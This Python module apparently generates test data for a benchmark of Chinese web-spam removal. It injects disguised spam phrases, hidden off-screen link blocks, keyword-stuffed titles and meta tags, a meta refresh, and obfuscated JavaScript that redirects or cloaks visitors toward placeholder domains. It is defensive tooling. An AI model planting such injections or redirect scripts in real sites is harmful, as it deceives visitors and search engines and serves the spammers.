"""What black-hat tools put into pages, as a program: phrases in their disguises, and each way of placing them.

It knows nothing of the package: a measure must not share the mistakes of what it measures.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from pathlib import Path

import opencc

from bench.hidings import HIDINGS

__all__ = ["PAGE_KINDS", "TEXT_KINDS", "Injected", "disguised", "inject_page", "inject_text", "phrases", "take_phrases"]

SEPARATORS = (",", "，", "-", "_", "|", "｜", "、", " ", "/", "·", "—", ";", "~", "★", "=", "\u3000", " - ", " | ", "+")
_LOOKS = dict(pair.split("=") for pair in "a=аａＡ v=ⅴｖν o=оｏ p=рｐ x=х 国=囯 1=１ 0=０ 8=８ 3=３ 5=５".split())
_TURN = opencc.OpenCC("s2t")
COUNTIES = (
    "丹巴县 德钦县 安远县 上栗县 宜兰县 岳池县 商洛市 华池县 泰顺县 会泽县 兴仁县 德令哈市 扎兰屯市 舞阳县 "
    "西乌珠穆沁旗 彭州市 鹤庆县 五莲县 定安县 乐陵市 石泉县 灌阳县 青冈县 巴林左旗 临潭县 邛崃市 富顺县"
    " 林甸县 永善县 大埔县"
).split()
DOMAINS = ("kx7.example", "www.dafu88.example", "m.qq-lot.example:8080", "a1b2.spam.example")


@dataclass(frozen=True, slots=True)
class Injected:
    """A text or page with what was put in, each string as it was written there."""

    text: str
    strings: tuple[str, ...]
    kept: str
    """The text without it, as it ought to come back. For pages: the page before."""


_source = [Path(__file__).with_name("injections.txt")]


def take_phrases(source: Path) -> None:
    """Have the phrases of another file injected from now on."""
    _source[:] = [source]


def phrases() -> list[str]:
    """All phrases of injections.txt, or of the file that was taken."""
    lines = _source[0].read_text("utf-8").splitlines()
    return [line for line in lines if line and not line.startswith(("#", "["))]


def disguised(phrase: str, chance: random.Random) -> str:
    """A phrase as it is, or with blanks, look-alikes, full-width digits, capitals, or turned to Traditional."""
    way = chance.randrange(10)
    if way == 0:
        return " ".join(phrase)
    if way == 1:
        return "".join(chance.choice(_LOOKS[c]) if c in _LOOKS and chance.random() < 0.7 else c for c in phrase)
    if way == 2:
        return phrase.upper()
    if way == 3:
        return str(_TURN.convert(phrase))
    if way == 4:
        place = chance.randrange(1, len(phrase))
        return phrase[:place] + chance.choice((" ", "\u200b", "\u00ad", "\u3000")) + phrase[place:]
    return phrase


def _some(chance: random.Random, number: int) -> list[str]:
    return [disguised(each, chance) for each in chance.sample(phrases(), number)]


def _list(chance: random.Random, known: list[str], separator: str) -> str:
    porn = chance.random() < 0.7
    pool = [each for each in known if bool(re.search("[一二三]区|久|av|精品|黄色|毛片|爽|偷|乱", each)) == porn]
    return separator.join(chance.sample(pool, chance.randrange(3, 7)))


def _line(chance: random.Random, paragraphs: list[str], before: bool) -> Injected:
    spam = _list(chance, phrases(), chance.choice(SEPARATORS))
    lines = [spam, *paragraphs] if before else [*paragraphs, spam]
    return Injected("\n".join(lines), (spam,), "\n".join(paragraphs))


def _single(chance: random.Random, paragraphs: list[str]) -> Injected:
    """A line that is one phrase, between two paragraphs."""
    (spam,) = _some(chance, 1)
    place = chance.randrange(len(paragraphs) + 1)
    return Injected("\n".join([*paragraphs[:place], spam, *paragraphs[place:]]), (spam,), "\n".join(paragraphs))


def _turned(chance: random.Random, paragraphs: list[str]) -> Injected:
    """A list turned to Traditional with the page."""
    spam = str(_TURN.convert(_list(chance, phrases(), chance.choice(SEPARATORS))))
    return Injected("\n".join([*paragraphs, spam]), (spam,), "\n".join(paragraphs))


def _tail(chance: random.Random, paragraphs: list[str]) -> Injected:
    """A list right behind the last sentence."""
    spam = _list(chance, phrases(), chance.choice([each for each in SEPARATORS if each.strip()]))
    return Injected("\n".join(paragraphs) + spam, (spam,), "\n".join(paragraphs))


_MARK = re.compile("(?<=[\u4e00-\u9fff])[，。；](?=[\u4e00-\u9fff])")
_INNER = re.compile("(?<=[\u4e00-\u9fff])(?=[\u4e00-\u9fff])")


def _in_sentence(chance: random.Random, paragraphs: list[str], form: str) -> Injected:
    """A phrase in a sentence: a clause of its own, in brackets, between dots, or with nothing around it."""
    (spam,) = _some(chance, 1)
    number = chance.randrange(len(paragraphs))
    text = paragraphs[number]
    places = [
        match.start()
        for match in (_INNER if form in {"{}", "（{}）", "…{}…", "({})", "【{}】"} else _MARK).finditer(text)
    ]
    place = chance.choice(places) if places else len(text)
    made = text[:place] + form.format(spam) + text[place:]
    lines = [*paragraphs[:number], made, *paragraphs[number + 1 :]]
    return Injected("\n".join(lines), (spam,), "\n".join(paragraphs))


def _counties(chance: random.Random, paragraphs: list[str]) -> Injected:
    spam = chance.choice(("| ", "|", " | ")).join(chance.sample(COUNTIES, chance.randrange(10, 24)))
    spam = chance.choice(("", "主站蜘蛛池模板： ")) + spam
    return Injected("\n".join([*paragraphs, spam]), (spam,), "\n".join(paragraphs))


Kind = Callable[[random.Random, list[str]], Injected]

TEXT_KINDS: dict[str, Kind] = {
    "line before": lambda chance, text: _line(chance, text, before=True),
    "line after": lambda chance, text: _line(chance, text, before=False),
    "line of one phrase": _single,
    "line turned to Traditional": _turned,
    "list behind the last sentence": _tail,
    "clause in a sentence": lambda chance, text: _in_sentence(chance, text, "，{}"),
    "inside a sentence": lambda chance, text: _in_sentence(chance, text, "{}"),
    "in brackets": lambda chance, text: _in_sentence(chance, text, chance.choice(("（{}）", "({})", "【{}】"))),
    "between dots": lambda chance, text: _in_sentence(chance, text, "…{}…"),
    "county list": _counties,
}


def inject_text(kind: str, paragraphs: list[str], chance: random.Random) -> Injected:
    """Paragraphs of good text with spam of one kind."""
    return TEXT_KINDS[kind](chance, paragraphs)


# Pages. The places are looked for by tags only, so that any layout will do.


def _anchors(chance: random.Random, number: int) -> str:
    made = (
        f'<a href="http://{chance.choice(DOMAINS)}/{n}.html">{escape(word)}</a>'
        for n, word in enumerate(_some(chance, number))
    )
    return "\n".join(made)


def _before_last(html: str, tag: str, more: str) -> str:
    start, found, end = html.rpartition(tag)
    return start + more + found + end if found else html + more


def _entities(text: str) -> str:
    return "".join(f"&#{ord(each)};" if number % 2 else f"&#x{ord(each):x};" for number, each in enumerate(text))


def _hidden(hiding: str) -> Callable[[str, random.Random], str]:
    def add(html: str, chance: random.Random) -> str:
        block = f"<div {hiding}>{_anchors(chance, 5)}</div>"
        if "hx9" in hiding:
            html = html.replace("</head>", "<style>.hx9,#hx9{position:absolute;left:-3000px}</style></head>", 1)
        places = [match.start() for match in re.finditer(r"</(?:p|P|div|DIV|td)>", html)]
        return _at(html, chance.choice(places) if places else len(html), block)

    return add


def _at(html: str, place: int, more: str) -> str:
    end = html.find(">", place) + 1 or len(html)
    return html[:end] + more + html[end:]


def _links(html: str, chance: random.Random) -> str:
    """Visible links to foreign hosts, in a block of their own before the end of the page."""
    return _before_last(html, "</body>", f"<div>{_anchors(chance, 6)}</div>")


def _forum(html: str, chance: random.Random) -> str:
    """A link to a foreign host between two paragraphs."""
    places = [match.end() for match in re.finditer(r"。</p>|。<br>|。</FONT><BR>", html)]
    link = f'<p><a href="//{chance.choice(DOMAINS)}/bbs">“{_some(chance, 1)[0]}”</a></p>'
    place = chance.choice(places) if places else html.find("<body") + 6
    return html[:place] + link + html[place:]


def _junk(html: str, chance: random.Random) -> str:
    name = "".join(chance.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(chance.randrange(4, 8)))
    tags = ("wbr", "video", "font", "strike", "u", "em", "tt", "label", "acronym", "fieldset")

    def behind(match: re.Match[str]) -> str:
        tag = chance.choice(tags[:3] + tags[4:6])
        made = f'<{tag} id="{name}">' + ("" if tag == "wbr" else f"</{tag}>")
        return match[0] + made if chance.random() < 0.4 else match[0]

    return re.sub("[。，](?=[\u4e00-\u9fff])", behind, html)


def _head(coded: bool) -> Callable[[str, random.Random], str]:
    def add(html: str, chance: random.Random) -> str:
        write = _entities if coded else escape
        title, words = write("-".join(_some(chance, 3))), write(",".join(_some(chance, 4)))
        html = re.sub(r"(?is)<title>.*?</title>", lambda _: f"<title>{title}</title>", html, count=1)
        metas = f'<meta name="keywords" content="{words}"><meta name="description" content="{words}">'
        return re.sub("(?i)</head>", lambda _: metas + "</head>", html, count=1)

    return add


def _attributes(html: str, chance: random.Random) -> str:
    word = escape(_some(chance, 1)[0])
    html = re.sub(r'\balt="[^"]*"', lambda _: f'alt="{word}"', html, flags=re.IGNORECASE)
    return re.sub(r'(?i)(<a href="[^"]*")>', lambda match: f'{match[1]} title="{word}">', html)


def _script(html: str, chance: random.Random) -> str:
    where = f"http://{chance.choice(DOMAINS)}/?s=1"
    coded = "".join(f"%{byte:02x}" for byte in f'<script src="{where}"></script>'.encode())
    code = chance.choice((
        f'var r=document.referrer;if(/baidu|so\\.com/.test(r))location.href="{where}"',
        f'if(navigator.userAgent.match(/spider|bot/i)){{}}else{{window.location.replace("{where}")}}',
        f'document.write(unescape("{coded}"))',
        "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in f'top.location="{where}"') + "))",
        f'setTimeout(function(){{self.location="{where}"}},1000)',
    ))  # fmt: skip
    return re.sub("(?i)</head>", lambda _: f"<script>{code}</script></head>", html, count=1)


def _refresh(html: str, chance: random.Random) -> str:
    return re.sub(
        "(?i)</head>", f'<meta http-equiv="Refresh" content="3; URL=http://{DOMAINS[0]}/"></head>', html, count=1
    )


def _heading(html: str, chance: random.Random) -> str:
    """The article's own heading replaced."""
    title = "_".join(_some(chance, 3))
    return re.sub(r"(?is)(<h1[^>]*>).*?(</h1>)", lambda match: match[1] + escape(title) + match[2], html, count=1)


def _in_body(kind: str) -> Callable[[str, random.Random], str]:
    """What `inject_text` does, to the paragraphs of the page."""

    def add(html: str, chance: random.Random) -> str:
        # The text of paragraphs: a tag, some Chinese with a full stop, a tag.
        found = list(re.finditer(r">([^<>]{20,}。)(?=<)", html))
        if not found:
            return html
        match = chance.choice(found)
        made = inject_text(kind, [match[1]], chance)
        joint = "<br>" if "<br>" in html else "</p><p>" if "<p>" in html.lower() else "<BR>"
        return html[: match.start(1)] + joint.join(made.text.split("\n")) + html[match.end(1) :]

    return add


PageKind = Callable[[str, random.Random], str]

PAGE_KINDS: dict[str, PageKind] = {
    **{f"text: {kind}": _in_body(kind) for kind in TEXT_KINDS},
    **{f"hidden: {hiding}": _hidden(hiding) for hiding in HIDINGS},
    "block of foreign links": _links,
    "foreign link between paragraphs": _forum,
    "junk tags": _junk,
    "title and meta": _head(coded=False),
    "title and meta, entities": _head(coded=True),
    "alt and title attributes": _attributes,
    "script": _script,
    "meta refresh": _refresh,
    "heading": _heading,
}


def inject_page(kind: str, html: str, chance: random.Random) -> str:
    """A page's source with spam of one kind."""
    return PAGE_KINDS[kind](html, chance)
